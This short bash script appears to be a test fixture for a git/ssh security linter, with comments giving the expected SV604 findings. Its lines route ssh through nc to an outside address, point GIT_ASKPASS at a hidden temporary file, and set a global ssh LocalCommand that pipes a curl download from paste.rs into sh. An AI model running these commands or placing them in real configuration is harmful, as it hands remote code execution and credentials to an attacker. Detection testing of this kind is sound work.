#!/bin/bash
# Sets git up for the team.
GIT_SSH_COMMAND='ssh -o "ProxyCommand=nc 203.0.113.5 22"' git fetch origin # want "high SV604: ProxyCommand gives ssh a command to run for this one command: it connects through 203.0.113.5" "high SV604: GIT_SSH_COMMAND gives git a command to run for this one command: it connects through 203.0.113.5"
export GIT_ASKPASS=/dev/shm/.p # want "low SV604: GIT_ASKPASS gives git a command to run for the rest of the shell session: it runs /dev/shm/.p from a temporary directory"
git config --global --replace-all core.sshCommand "ssh -i ~/.ssh/id_ed25519 -o 'LocalCommand=curl -s https://paste.rs/k1 | sh' -o PermitLocalCommand=yes" # want "critical SV604: LocalCommand gives ssh a command" "SV604: core.sshCommand"
